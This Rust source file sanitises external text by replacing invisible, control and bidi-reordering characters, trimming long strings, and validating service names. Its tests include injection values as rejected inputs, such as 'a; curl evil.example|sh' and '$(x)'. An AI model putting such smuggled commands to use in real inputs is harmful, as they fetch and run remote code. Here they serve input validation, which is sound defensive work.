//! Text from outside: which characters may be shown.
//!
//! What Atlas sends ends up in status, events, logs and terminals, and what people paste into Secrets holds characters
//! that are invisible. This file knows characters by their class and never decides what follows from them.

use std::borrow::Cow;

/// How many bytes of one text of Atlas are kept; real ones have about 80.
pub const MAX_BYTES: usize = 1024;

/// How many bytes at the end of a text survive its cut: a comment's mark is there.
const TAIL_BYTES: usize = 128;

/// Replaces a character that may not be shown.
const REPLACEMENT: char = '\u{fffd}';

/// Code points that are invisible, or that reorder what stands around them: Unicode's format characters (Cf), the other
/// ones that it calls default ignorable, and the blanks that it does not call white space.
const INVISIBLE: &[(u32, u32)] = &[
    (0xad, 0xad),
    (0x34f, 0x34f),
    (0x600, 0x605),
    (0x61c, 0x61c),
    (0x6dd, 0x6dd),
    (0x70f, 0x70f),
    (0x890, 0x891),
    (0x8e2, 0x8e2),
    (0x115f, 0x1160),
    (0x17b4, 0x17b5),
    (0x180b, 0x180f),
    (0x200b, 0x200f),
    (0x202a, 0x202e),
    (0x2060, 0x206f),
    (0x2800, 0x2800),
    (0x3164, 0x3164),
    (0xfe00, 0xfe0f),
    (0xfeff, 0xfeff),
    (0xffa0, 0xffa0),
    (0xfff0, 0xfffb),
    (0xfffe, 0xffff),
    (0x110bd, 0x110bd),
    (0x110cd, 0x110cd),
    (0x13430, 0x1343f),
    (0x1bca0, 0x1bca3),
    (0x1d173, 0x1d17a),
    (0xe0000, 0xe0fff),
];

/// Returns `true` for invisible characters that are no white space: controls, format characters and other blanks.
#[must_use]
pub fn is_unfit(c: char) -> bool {
    c.is_control() || INVISIBLE.iter().any(|(first, last)| (*first..=*last).contains(&u32::from(c)))
}

/// The text with one space for each white space, line breaks included, and `U+FFFD` for each other unfit character. One
/// character becomes one: texts that differ in what can be seen still differ, and no mark comes to be or goes.
#[must_use]
pub fn fit(text: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c == ' ' || !(c.is_whitespace() || is_unfit(c));
    if text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    let replaced = |c: char| if c.is_whitespace() { ' ' } else { REPLACEMENT };
    Cow::Owned(text.chars().map(|c| if is_plain(c) { c } else { replaced(c) }).collect())
}

/// The text as it is kept: [`fit`], and at most [`MAX_BYTES`] long. What is longer loses the outer white space and its
/// middle, so that the mark of a comment is read afterwards as before.
#[must_use]
pub fn kept(text: &str) -> String {
    let fit = fit(text);
    if fit.len() <= MAX_BYTES {
        return fit.into_owned();
    }
    let whole = fit.trim();
    if whole.len() <= MAX_BYTES {
        return whole.to_owned();
    }
    let head = whole.floor_char_boundary(MAX_BYTES - TAIL_BYTES - '…'.len_utf8());
    let tail = whole.ceil_char_boundary(whole.len() - TAIL_BYTES);
    format!("{}…{}", &whole[..head], &whole[tail..])
}

/// Returns `true` for a name that an endpoint service may have, and that may stand in a command which people paste.
#[must_use]
pub fn is_service_name(name: &str) -> bool {
    !name.is_empty()
        && name.bytes().all(|b| matches!(b, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-'))
        && !name.starts_with('-')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_service_name_cannot_be_more_than_a_word_of_a_command() {
        assert!(is_service_name("com.amazonaws.vpce.us-east-1.vpce-svc-0afd34ee97e30d43f"));
        for bad in ["", "a; curl evil.example|sh", "a\nb", "A", "-x", "a b", "$(x)", "vpce\u{202e}"] {
            assert!(!is_service_name(bad), "{bad:?}");
        }
    }

    #[test]
    fn what_cannot_be_seen_or_reorders_is_replaced_and_the_rest_stays() {
        assert_eq!(fit("J\u{fc}rgen's \u{1f600} – text"), "Jürgen's 😀 – text");
        assert_eq!(fit("a\r\n\tb\u{a0}c\u{2028}d"), "a   b c d");
        for c in
            ['\0', '\u{1b}', '\u{7f}', '\u{9b}', '\u{200b}', '\u{202e}', '\u{2066}', '\u{feff}', '\u{e0041}']
        {
            assert_eq!(fit(&format!("a{c}b")), "a\u{fffd}b", "{c:?}");
        }
    }

    #[test]
    fn a_long_text_loses_its_middle_and_keeps_both_ends() {
        let long = format!("  start{}end  ", "ä".repeat(MAX_BYTES));
        let kept = kept(&long);
        assert!(kept.len() <= MAX_BYTES && kept.starts_with("start") && kept.ends_with("end"), "{kept}");
        assert!(kept.contains('…'));
        assert_eq!(super::kept(&kept), kept, "what was kept is kept as it is");
        assert_eq!(super::kept(" two  spaces "), " two  spaces ");
    }
}
